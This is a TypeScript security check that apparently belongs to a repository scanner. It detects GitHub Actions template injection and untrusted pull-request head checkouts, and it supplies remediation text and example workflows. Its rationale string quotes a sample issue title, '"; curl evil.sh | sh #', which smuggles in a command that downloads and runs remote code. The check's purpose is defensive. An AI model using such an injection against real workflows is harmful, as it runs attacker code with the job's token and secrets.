import { defineCheck, type Finding } from '../check.ts'
import { evidenceOf, lineAt, lineRange } from '../snapshot/lines.ts'
import { envPatch } from '../snapshot/untrusted/env-patch.ts'
import { type CodeStep, codeSteps } from '../snapshot/untrusted/flow.ts'
import { type HeadCheckout, headCheckouts } from '../snapshot/untrusted/head-checkout.ts'
import { actionsOf, workflowsOf } from '../snapshot/workflow.ts'

const EXPRESSION = `\${{ github.event.issue.title }}`

export const workflowInputSafe = defineCheck({
  id: 'workflow-input-safe',
  item: 'build-pipeline',
  title: 'No untrusted input runs as code in workflows',
  severity: 'critical',
  version: 2,
  rationale:
    'GitHub writes an expression into the script before the shell reads it. A title such as `"; curl evil.sh | sh #` is then a command, run with the token and the secrets of the job. Whoever can open an issue or a pull request can write one.',
  remediation:
    'Hand the value over in `env:` and use the variable in quotes: `"$TITLE"`. In github-script read it from the environment too. Never check out and run the head of a pull request in `pull_request_target` or `workflow_run`.',
  mapsTo: {
    scorecard: ['Dangerous-Workflow'],
    zizmor: ['template-injection', 'dangerous-triggers'],
    osps: ['OSPS-BR-01.01', 'OSPS-BR-01.03'],
    slsa: [],
    cis: ['1.5.2', '2.3.6'],
  },
  references: [],
  reads: ['tree', 'workflows'],

  run(repo) {
    const steps = codeSteps(repo)
    const heads = headCheckouts(repo).filter(({ runs }) => runs !== null)
    const findings = [...steps.flatMap(injection), ...heads.map(headRun)]
    const unread = [...workflowsOf(repo).unread, ...actionsOf(repo).unread]
    return { examined: steps.length + heads.length, findings, unread }
  },

  example: {
    failing: { '.github/workflows/triage.yml': workflow('', EXPRESSION) },
    fixed: {
      '.github/workflows/triage.yml': workflow(
        `env:\n          ISSUE_TITLE: ${EXPRESSION}\n        `,
        `\${ISSUE_TITLE}`,
      ),
    },
  },
})

function injection(one: CodeStep): Finding[] {
  const { file, code, input, tainted } = one
  const [first] = tainted
  if (!first) return []
  const written = `\`\${{ ${first.expression.source.replace(/\s+/g, ' ').slice(0, 80)} }}\``
  const from =
    first.origin === first.context
      ? ''
      : ` (it comes from ${first.origin.includes('`') ? first.origin : `\`${first.origin}\``})`
  const more =
    tainted.length > 1 ? `, and ${tainted.length - 1} more such expression${tainted.length > 2 ? 's' : ''}` : ''
  const advice =
    input === null
      ? 'Hand it over in `env:` and write the variable in double quotes.'
      : 'Hand it over in `env:` and read it from the environment.'
  const message = `${written} is what anybody may write${from}, and becomes part of the ${input === null ? 'script' : `code in \`${input}\``} before it runs${more}. ${advice}`
  const fix = envPatch(one)
  const patch = fix && {
    title: `Hand \`${first.context}\` over in the environment`,
    safety: fix.safe ? ('safe' as const) : ('review' as const),
    edits: fix.edits.map(edit => ({ kind: 'replace' as const, path: file.path, ...edit })),
  }
  return [
    { message, evidence: evidenceOf(placeIn(one, code.start, first.expression.source)), ...(patch ? { patch } : {}) },
  ]
}

/** The line of the expression where the value is written line by line, else the start of the value. */
function placeIn(
  { file, code }: CodeStep,
  start: number,
  source: string,
): { file: CodeStep['file']; start: number; end: number } {
  const at = file.text.slice(start, code.end).indexOf(source)
  const line = lineAt(file, at === -1 ? start : start + at)
  return { file, ...lineRange(file, line) }
}

function headRun({ place, event, runs }: HeadCheckout): Finding {
  const what = (runs ?? '').replace(/\s+/g, ' ').replaceAll('`', "'").slice(0, 60)
  return {
    message: `The workflow runs on \`${event}\`, with the rights and secrets of this repository, checks out the head of a pull request that anybody may open, and runs it (\`${what}\`). Run it on \`pull_request\` instead, and pass on only data.`,
    evidence: evidenceOf(place),
  }
}

function workflow(env: string, title: string): string {
  return `name: Triage
on:
  issues:
    types: [opened]
permissions:
  contents: read
jobs:
  log:
    runs-on: ubuntu-24.04
    steps:
      - ${env}run: echo "New issue ${title}"
`
}
